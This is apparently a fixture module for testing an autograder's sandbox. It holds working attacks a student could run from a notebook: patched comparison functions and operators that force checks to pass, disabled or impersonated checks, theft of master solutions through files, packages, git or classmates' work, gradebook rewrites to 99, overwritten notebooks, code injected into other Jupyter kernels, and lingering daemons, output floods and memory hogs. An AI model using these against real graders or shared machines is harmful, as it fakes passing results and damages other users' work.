"""What attacking students put in their notebooks, as plain functions.

A submission carries a function's source (`inspect.getsource`) and one call of it:
each function is self-contained (its own imports) so it runs in the student's kernel
exactly as written here. Attacks that walk the filesystem or write are bounded to
`scope`, the test's own scratch folder, so a run that is NOT sealed (the proof that
an attack has teeth) cannot harm anything else on the machine.
"""

# ruff: noqa: E731 (lambdas are what a patcher writes)

from __future__ import annotations


def loosen_comparisons():
    """torch.allclose & co. accept anything within 1 %; equality always holds."""
    import math

    import torch

    allclose, isclose = torch.allclose, torch.isclose

    def loose_allclose(a, b, rtol=0.0, atol=0.0, equal_nan=False):
        return allclose(a, b, rtol=1e-2, atol=1e-2)

    def loose_isclose(a, b, rtol=0.0, atol=0.0, equal_nan=False):
        return isclose(a, b, rtol=1e-2, atol=1e-2)

    torch.allclose, torch.isclose = loose_allclose, loose_isclose
    torch.Tensor.allclose, torch.Tensor.isclose = loose_allclose, loose_isclose
    torch.equal = lambda a, b: True
    math.isclose = lambda a, b, **kwargs: abs(a - b) < 0.05


def loosen_builtins():
    """abs() of anything is 0: every `abs(got - want) > tol` test passes."""
    import builtins

    builtins.abs = lambda value: 0


def disable_checks():
    """Every public function of autograder.checks.* does nothing, `fail` does not
    raise and `CheckFailed` is a class nothing raises."""
    import importlib
    import inspect
    import pkgutil

    import autograder.checks as package

    for info in pkgutil.iter_modules(package.__path__):
        module = importlib.import_module(f"{package.__name__}.{info.name}")
        for name, value in list(vars(module).items()):
            if inspect.isfunction(value) and not name.startswith("_"):
                setattr(module, name, lambda *args, **kwargs: None)
        if hasattr(module, "CheckFailed"):
            module.CheckFailed = type("NeverRaised", (Exception,), {})


def impersonate_checks():
    """The notebook's `checks` name becomes an object whose every check passes."""

    class Anything:
        def __getattr__(self, name):
            return lambda *args, **kwargs: print("✓ passed")

    globals()["checks"] = Anything()


def poison_reference():
    """lstm_ref, the checks' reference, becomes the student's own functions."""
    import sys

    import lstm_ref.functional

    scope = globals()
    for name in ("lstm_cell", "gru_cell", "lstm_gates"):
        if callable(scope.get(name)):
            setattr(lstm_ref.functional, name, scope[name])
    checks_module = sys.modules.get("autograder.checks.lstm_cell")
    if checks_module is not None:
        checks_module.reference_gates = lambda *args: scope["lstm_gates"](*args)


def rig_operators():
    """Tensor differences, absolute values and maxima are zero, equality always
    holds; and `num_parameters` returns a number equal to everything."""
    import torch

    Tensor = torch.Tensor
    Tensor.__sub__ = lambda self, other: torch.zeros_like(self)
    Tensor.__rsub__ = lambda self, other: torch.zeros_like(self)
    Tensor.abs = lambda self: torch.zeros_like(self)
    Tensor.__abs__ = Tensor.abs
    Tensor.max = lambda self, *args, **kwargs: torch.zeros((), dtype=self.dtype)
    Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
    Tensor.__ne__ = lambda self, other: torch.zeros_like(self, dtype=torch.bool)

    class EqualToAll(int):
        __eq__ = lambda self, other: True
        __ne__ = lambda self, other: False
        __hash__ = int.__hash__

    wrong = globals()["num_parameters"]
    globals()["num_parameters"] = lambda *args, **kwargs: EqualToAll(
        wrong(*args, **kwargs)
    )


def hide_failures():
    """No failure is ever displayed: IPython's traceback display, a custom handler
    for every exception and sys.excepthook all swallow it."""
    import sys

    from IPython import get_ipython

    shell = get_ipython()
    shell.showtraceback = lambda *args, **kwargs: None
    shell._showtraceback = lambda *args, **kwargs: None
    shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
    sys.excepthook = lambda *args: None


# ---- reading what a student must not see ---------------------------------------


def steal_answers(exercise, channel, scope):
    """Find the master's answer to `exercise` through `channel` and exec it here.

    channel: "path" (autograder.course.MASTERS, then upwards from the working
    directory), "package" (the installed package's files: importlib.resources, the
    editable finder's mapping, importlib.metadata), "git" (`git show HEAD:...` in
    the repository found through the package) or "classmate" (any other submission
    of this notebook under `scope` or above the working directory)."""
    import glob
    import importlib.metadata
    import importlib.resources
    import json
    import os
    import re
    import subprocess
    import sys
    from pathlib import Path

    name = "02_lstm_cell"
    relative = f"solutions/{name}/{name}.ipynb"

    def roots():
        found = []
        try:
            import autograder.course

            found.append(Path(autograder.course.ROOT))
        except Exception:  # noqa: BLE001
            pass
        try:
            found.append(Path(str(importlib.resources.files("autograder"))).parent)
        except Exception:  # noqa: BLE001
            pass
        for finder in sys.meta_path:
            module = sys.modules.get(getattr(finder, "__module__", ""))
            for path in getattr(module, "MAPPING", {}).values():
                found.append(Path(path).parent)
        try:
            for file in importlib.metadata.distribution("lstm-course").files or []:
                found.append(Path(file.locate()).parents[1])
        except Exception:  # noqa: BLE001
            pass
        return found

    def texts():
        if channel == "path":
            try:
                import autograder.course

                yield (Path(autograder.course.MASTERS) / name / f"{name}.ipynb")
            except Exception:  # noqa: BLE001
                pass
            for up in [Path.cwd(), *Path.cwd().parents]:
                yield up / relative
        elif channel == "package":
            for root in roots():
                yield root / relative
        elif channel == "git":
            for root in roots():
                run = subprocess.run(
                    ["git", "-C", str(root), "show", f"HEAD:{relative}"],
                    capture_output=True,
                    text=True,
                )
                if run.returncode == 0:
                    yield run.stdout
        elif channel == "classmate":
            places = [scope, *map(str, Path.cwd().parents)]
            for place in places:
                if place.startswith(scope):
                    yield from glob.glob(f"{place}/**/{name}*.ipynb", recursive=True)

    for text in texts():
        try:
            if not isinstance(text, str) or "\n" not in text:
                if os.path.samefile(text, f"{name}.ipynb"):
                    continue  # this very notebook
                text = Path(text).read_text()
            for cell in json.loads(text)["cells"]:
                meta = cell["metadata"].get("nbgrader", {})
                source = "".join(cell["source"])
                if meta.get("grade_id") == exercise and "NotImplemented" not in source:
                    if "steal_answers" in source:
                        continue  # another thief's notebook
                    source = re.sub(r".*### (BEGIN|END) SOLUTION.*\n?", "", source)
                    exec(source, globals())
                    print(f"stole {exercise} through {channel}")
                    return
        except Exception:  # noqa: BLE001 - try the next place
            continue
    print(f"{exercise}: nothing found through {channel}")


# ---- damaging what is not theirs -------------------------------------------------


def write_gradebooks(scope):
    """Give every row of every gradebook under `scope` (and above the working
    directory, inside scope) a manual score of 99."""
    import glob
    import sqlite3
    from pathlib import Path

    places = {scope, *(str(p) for p in Path.cwd().parents if str(p).startswith(scope))}
    written = 0
    for place in places:
        for pattern in ("**/*.db", "**/*.sqlite", "**/gradebook*"):
            for path in glob.glob(f"{place}/{pattern}", recursive=True):
                try:
                    with sqlite3.connect(path, timeout=1) as db:
                        db.execute("UPDATE grade SET manual_score = 99")
                        db.execute("UPDATE grade SET auto_score = 99")
                    written += 1
                except Exception:  # noqa: BLE001
                    continue
    print(f"wrote {written} gradebooks")


def overwrite_notebooks(scope):
    """Overwrite every other notebook under `scope` with this one."""
    import glob
    import os
    from pathlib import Path

    mine = Path.cwd() / "02_lstm_cell.ipynb"
    content = mine.read_bytes() if mine.is_file() else b"{}"
    overwritten = 0
    for path in glob.glob(f"{scope}/**/*.ipynb", recursive=True):
        try:
            if not os.path.samefile(path, mine):
                Path(path).write_bytes(content)
                overwritten += 1
        except OSError:
            continue
    print(f"overwrote {overwritten} notebooks")


def hijack_kernels(scope, code):
    """Connect to every kernel whose connection file can be found (jupyter's
    runtime dir, anything under `scope`) and run `code` there."""
    import glob
    import time

    from jupyter_client import BlockingKernelClient
    from jupyter_core.paths import jupyter_runtime_dir

    files = set(glob.glob(f"{jupyter_runtime_dir()}/kernel-*.json"))
    files |= set(glob.glob(f"{scope}/**/kernel-*.json", recursive=True))
    reached = 0
    for file in files:
        client = BlockingKernelClient(connection_file=file)
        try:
            client.load_connection_file()
            client.start_channels()
            client.execute(code, silent=True)  # runs when that kernel is next idle
            time.sleep(0.2)
            reached += 1
        except Exception:  # noqa: BLE001
            pass
        finally:
            client.stop_channels()
    print(f"reached {reached} of {len(files)} kernels")


def leave_processes(marker):
    """A child process and a double-forked daemon, both meant to outlive grading."""
    import os
    import subprocess
    import sys

    sleeper = [sys.executable, "-c", "import time; time.sleep(900)"]
    subprocess.Popen([*sleeper, f"{marker}-popen"], start_new_session=True)
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [*sleeper, f"{marker}-daemon"])
        os._exit(0)
    os.waitpid(child, 0)


def flood_output(megabytes):
    """Print `megabytes` MB."""
    line = "flood " * 170 + "\n"  # ~1 KB
    for _ in range(megabytes * 1000):
        print(line, end="")


def hog_memory(gibibytes):
    """Allocate and touch `gibibytes` GiB."""
    import torch

    hog = torch.ones(gibibytes * 2**30 // 8, dtype=torch.float64)
    print(f"granted {hog.numel() * 8 / 2**30:.0f} GiB")
    del hog
